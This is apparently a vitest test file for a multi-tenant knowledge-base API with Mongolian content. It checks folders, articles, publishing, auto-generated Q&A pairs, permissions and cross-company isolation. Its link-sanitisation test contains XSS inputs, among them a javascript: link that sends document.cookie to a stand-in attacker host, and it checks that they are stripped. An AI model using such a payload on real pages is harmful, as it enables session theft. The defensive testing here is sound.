import type { ArticleSummary, ArticleView, FolderView, MeView, QaView, TiptapNode } from "@holboo/core";
import { LIMITS } from "@holboo/core";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorCode, fieldCode, startTestApp, type TestApp, type Client } from "../../../test/harness.ts";
import { colleague, companyAdmin } from "../../../test/factories.ts";
import { knowledgeArticles, virtualAgents } from "../../platform/db/schema.ts";
import { recordQuestion } from "./qa.service.ts";

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

type List<T> = { items: T[]; total: number };

const doc = (...blocks: TiptapNode[]): TiptapNode => ({ type: "doc", content: blocks });
const p = (text: string): TiptapNode => ({ type: "paragraph", content: [{ type: "text", text }] });
const h = (level: number, text: string): TiptapNode => ({ type: "heading", attrs: { level }, content: [{ type: "text", text }] });

async function folder(client: Client, name = "Түгээмэл", extra: Record<string, unknown> = {}) {
  const response = await client.post<FolderView>("/api/knowledge/folders", { name, ...extra });
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  return response.body;
}

async function article(client: Client, folderId: number, name: string, content: TiptapNode) {
  const response = await client.post<ArticleView>("/api/knowledge/articles", { folder_id: folderId, name, content });
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  return response.body;
}

async function agentsOf(me: MeView) {
  return t.database.db.select().from(virtualAgents).where(eq(virtualAgents.companyId, me.company_id));
}

describe("knowledge folders", () => {
  it("go to the primary agent by default; names are required and unique among siblings only", async () => {
    const admin = await companyAdmin(t);
    const [primary] = await agentsOf(admin.me);
    const top = await folder(admin.client, "Хүргэлт");
    expect(top.agent_ids).toEqual([primary?.id]);
    expect(fieldCode(await admin.client.post("/api/knowledge/folders", { name: "  " }), "name")).toBe("name_empty");
    const duplicate = await admin.client.post("/api/knowledge/folders", { name: "хүргэлт" });
    expect(duplicate.status).toBe(409);
    expect(fieldCode(duplicate, "name")).toBe("knowledge_folder_name_duplicate");
    const child = await folder(admin.client, "Хүргэлт", { parent_id: top.id });
    expect(child).toMatchObject({ parent_id: top.id, agent_ids: [primary?.id] });
    expect(fieldCode(await admin.client.put(`/api/knowledge/folders/${top.id}`, { name: "Хүргэлт", parent_id: child.id }), "parent_id")).toBe(
      "knowledge_folder_parent_invalid",
    );
  });

  it("deleting needs the typed delete word, checked by the server, and takes sub-folders and articles along", async () => {
    const admin = await companyAdmin(t);
    const top = await folder(admin.client, "Устгах хавтас");
    const child = await folder(admin.client, "Дэд", { parent_id: top.id });
    await article(admin.client, child.id, "Нийтлэл", doc(p("Текст")));
    const wrong = await admin.client.del(`/api/knowledge/folders/${top.id}`, { confirm_word: "устга" });
    expect(fieldCode(wrong, "confirm_word")).toBe("delete_word_mismatch");
    expect((await admin.client.get<{ items: FolderView[] }>("/api/knowledge/folders")).body.items).toHaveLength(2);
    expect((await admin.client.del(`/api/knowledge/folders/${top.id}`, { confirm_word: " Устгах " })).status).toBe(200);
    expect((await admin.client.get<{ items: FolderView[] }>("/api/knowledge/folders")).body.items).toHaveLength(0);
    expect((await admin.client.get<List<ArticleSummary>>("/api/knowledge/articles")).body.total).toBe(0);
  });
});

describe("knowledge articles", () => {
  it("start as drafts, keep who updated them, publish and unpublish; a long one is flagged, a huge one refused", async () => {
    const admin = await companyAdmin(t);
    const f = await folder(admin.client);
    const created = await article(admin.client, f.id, "Хүргэлтийн нөхцөл", doc(h(1, "Хүргэлт"), p("Улаанбаатарт 24 цагийн дотор хүргэнэ.")));
    expect(created).toMatchObject({ status: "draft", source: "manual", too_long: false, updated_by: { id: admin.me.ID, name: "Батбаяр Дорж" } });
    const edited = await admin.client.put<ArticleView>(`/api/knowledge/articles/${created.id}`, {
      folder_id: f.id,
      name: "Хүргэлт",
      content: doc(p("x".repeat(LIMITS.articleCharsWarning + 1))),
    });
    expect(edited.body).toMatchObject({ name: "Хүргэлт", too_long: true, status: "draft" });
    expect((await admin.client.post<ArticleView>(`/api/knowledge/articles/${created.id}/publish`)).body.status).toBe("published");
    expect((await admin.client.get<List<ArticleSummary>>("/api/knowledge/articles?status=published")).body.total).toBe(1);
    expect((await admin.client.post<ArticleView>(`/api/knowledge/articles/${created.id}/unpublish`)).body.status).toBe("draft");
    const huge = await admin.client.post("/api/knowledge/articles", { folder_id: f.id, name: "Их", content: doc(p("x".repeat(LIMITS.articleCharsMax + 1))) });
    expect(fieldCode(huge, "content")).toBe("text_too_long");
    const badNode = await admin.client.post("/api/knowledge/articles", {
      folder_id: f.id,
      name: "Script",
      content: { type: "doc", content: [{ type: "script" }] },
    });
    expect(badNode.status).toBe(400);
    expect((await admin.client.get<List<ArticleSummary>>("/api/knowledge/articles")).body.total).toBe(1);
  });

  it("links other than http(s), mailto and tel are dropped on save, on create and on edit; the text stays", async () => {
    const admin = await companyAdmin(t);
    const f = await folder(admin.client);
    const linked = (href: string): TiptapNode => ({
      type: "paragraph",
      content: [{ type: "text", text: "энд дарна уу", marks: [{ type: "link", attrs: { href } }] }],
    });
    const created = await article(admin.client, f.id, "Холбоос", doc(linked("javascript:fetch('//evil.mn?'+document.cookie)"), linked("https://shop.mn/help")));
    const hrefs = (view: ArticleView) => JSON.stringify(view.content).match(/"href":"[^"]*"/g) ?? [];
    expect(hrefs(created)).toEqual(['"href":"https://shop.mn/help"']);
    expect(JSON.stringify(created.content)).toContain("энд дарна уу");
    const edited = await admin.client.put<ArticleView>(`/api/knowledge/articles/${created.id}`, {
      folder_id: f.id,
      name: "Холбоос",
      content: doc(linked("JaVa\tScRiPt:alert(1)"), linked("mailto:help@shop.mn")),
    });
    expect(hrefs(edited.body)).toEqual(['"href":"mailto:help@shop.mn"']);
    const [stored] = await t.database.db.select().from(knowledgeArticles).where(eq(knowledgeArticles.id, created.id));
    expect(JSON.stringify(stored?.content)).not.toMatch(/script:/i);
  });

  it("the package's article limit gives article_limit_reached", async () => {
    const admin = await companyAdmin(t);
    const f = await folder(admin.client);
    const rows = Array.from({ length: LIMITS.articlesPerCompany }, (_, i) => ({
      companyId: admin.me.company_id,
      folderId: f.id,
      name: `A${i}`,
      content: doc(p("a")),
      plainText: "a",
    }));
    await t.database.db.insert(knowledgeArticles).values(rows);
    const response = await admin.client.post("/api/knowledge/articles", { folder_id: f.id, name: "Нэмэлт", content: doc(p("b")) });
    expect(errorCode(response)).toBe("article_limit_reached");
    expect(response.status).toBe(403);
  });

  it("members read; only settings.edit changes; another company gets 404 and changes nothing", async () => {
    const admin = await companyAdmin(t);
    const f = await folder(admin.client);
    const a = await article(admin.client, f.id, "Нууц", doc(p("Дотоод мэдээлэл")));
    const agent = await colleague(t, admin.client, "agent");
    expect((await agent.client.get<ArticleView>(`/api/knowledge/articles/${a.id}`)).body.name).toBe("Нууц");
    expect(errorCode(await agent.client.post("/api/knowledge/folders", { name: "Шинэ" }))).toBe("forbidden");
    expect(errorCode(await agent.client.post(`/api/knowledge/articles/${a.id}/publish`))).toBe("forbidden");
    const other = await companyAdmin(t);
    expect((await other.client.get(`/api/knowledge/articles/${a.id}`)).status).toBe(404);
    expect((await other.client.get<List<ArticleSummary>>("/api/knowledge/articles")).body.total).toBe(0);
    expect((await other.client.get<{ items: FolderView[] }>("/api/knowledge/folders")).body.items).toHaveLength(0);
    expect((await other.client.put(`/api/knowledge/articles/${a.id}`, { folder_id: f.id, name: "Hack", content: doc(p("x")) })).status).toBe(404);
    expect((await other.client.post(`/api/knowledge/articles/${a.id}/publish`)).status).toBe(404);
    expect((await other.client.del(`/api/knowledge/folders/${f.id}`, { confirm_word: "delete" })).status).toBe(404);
    const otherFolder = await folder(other.client);
    expect((await other.client.put(`/api/knowledge/folders/${otherFolder.id}`, { name: "x", parent_id: f.id })).status).toBe(400);
    expect((await other.client.post("/api/knowledge/articles", { folder_id: f.id, name: "x", content: doc(p("x")) })).status).toBe(404);
    expect((await admin.client.get<ArticleView>(`/api/knowledge/articles/${a.id}`)).body).toMatchObject({ name: "Нууц", status: "draft" });
  });
});

describe("auto-generated Q&A pairs", () => {
  it("come from headings and FAQ blocks on publish, stay auto until a person edits them, and follow later edits", async () => {
    const admin = await companyAdmin(t);
    const f = await folder(admin.client);
    const content = doc(
      h(1, "Хүргэлт хэдэн өдөр үргэлжлэх вэ?"),
      p("Улаанбаатарт 24 цаг, орон нутагт 3-5 хоног."),
      h(2, "Төлбөр"),
      p("Асуулт: Картаар төлж болох уу?"),
      p("Хариулт: Тийм, бүх картаар төлнө."),
      p("Q: Do you deliver abroad?"),
      p("A: Not yet."),
    );
    const a = await article(admin.client, f.id, "Түгээмэл асуулт", content);
    expect((await admin.client.get<List<QaView>>("/api/knowledge/qa?source=auto")).body.total).toBe(0);
    await admin.client.post(`/api/knowledge/articles/${a.id}/publish`);
    const auto = (await admin.client.get<List<QaView>>("/api/knowledge/qa?source=auto")).body.items;
    expect(auto.map((pair) => [pair.question, pair.answer]).sort()).toEqual(
      [
        ["Do you deliver abroad?", "Not yet."],
        ["Картаар төлж болох уу?", "Тийм, бүх картаар төлнө."],
        ["Хүргэлт хэдэн өдөр үргэлжлэх вэ?", "Улаанбаатарт 24 цаг, орон нутагт 3-5 хоног."],
      ].sort(),
    );
    expect(auto.every((pair) => pair.origin_article_id === a.id && pair.source === "auto")).toBe(true);
    const card = auto.find((pair) => pair.question.startsWith("Картаар")) as QaView;
    const edited = await admin.client.put<QaView>(`/api/knowledge/qa/${card.id}`, {
      question: card.question,
      answer: "Visa, Mastercard, UnionPay.",
      related_article_ids: [a.id],
    });
    expect(edited.body.source).toBe("reviewed");
    await admin.client.put(`/api/knowledge/articles/${a.id}`, { folder_id: f.id, name: a.name, content: doc(h(1, "Буцаалт"), p("14 хоногийн дотор.")) });
    const after = (await admin.client.get<List<QaView>>("/api/knowledge/qa")).body.items;
    expect(after.map((pair) => `${pair.source}:${pair.question}`).sort()).toEqual(["auto:Буцаалт", "reviewed:Картаар төлж болох уу?"]);
  });
});

describe("knowledge tenancy", () => {
  it("every knowledge endpoint that takes an id answers 404 for another company's resource and changes nothing", async () => {
    const a = await companyAdmin(t);
    const b = await companyAdmin(t);
    const bFolder = await folder(b.client, "B хавтас");
    const bArticle = await article(b.client, bFolder.id, "B нийтлэл", doc(h(1, "Гарчиг?"), p("B-гийн хариулт")));
    await b.client.post(`/api/knowledge/articles/${bArticle.id}/publish`);
    const bPair = (await b.client.get<List<QaView>>("/api/knowledge/qa")).body.items[0] as QaView;
    const [bAgent] = await agentsOf(b.me);
    const bQuestion = await recordQuestion(t.database.db, { companyId: b.me.company_id, agentId: bAgent?.id ?? 0, question: "B?", outcome: "not_found" });
    const attempts: Array<[string, string, unknown?]> = [
      ["PUT", `/api/knowledge/folders/${bFolder.id}`, { name: "Hack", parent_id: null }],
      ["DELETE", `/api/knowledge/folders/${bFolder.id}`, { confirm_word: "delete" }],
      ["GET", `/api/knowledge/articles/${bArticle.id}`],
      ["PUT", `/api/knowledge/articles/${bArticle.id}`, { folder_id: bFolder.id, name: "Hack", content: doc(p("x")) }],
      ["POST", `/api/knowledge/articles/${bArticle.id}/unpublish`, {}],
      ["DELETE", `/api/knowledge/articles/${bArticle.id}`],
      ["PUT", `/api/knowledge/qa/${bPair.id}`, { question: "Hack?", answer: "x" }],
      ["POST", `/api/knowledge/qa/${bPair.id}/approve`, {}],
      ["POST", "/api/knowledge/qa/active", { ids: [bPair.id], active: false }],
      ["DELETE", `/api/knowledge/qa/${bPair.id}`],
      ["POST", `/api/knowledge/questions/${bQuestion}/resolve`, { answer: "Hack" }],
      ["POST", "/api/knowledge/articles", { folder_id: bFolder.id, name: "Hack", content: doc(p("x")) }],
    ];
    for (const [method, path, body] of attempts) {
      expect((await a.client.request(method, path, body)).status, `${method} ${path}`).toBe(404);
    }
    expect((await b.client.get<ArticleView>(`/api/knowledge/articles/${bArticle.id}`)).body).toMatchObject({ name: "B нийтлэл", status: "published" });
    expect((await b.client.get<List<QaView>>("/api/knowledge/qa")).body.items).toEqual([bPair]);
    expect((await b.client.get<{ items: FolderView[] }>("/api/knowledge/folders")).body.items.map((f) => f.name)).toEqual(["B хавтас"]);
    expect((await a.client.get<List<QaView>>("/api/knowledge/qa")).body.total).toBe(0);
  });
});
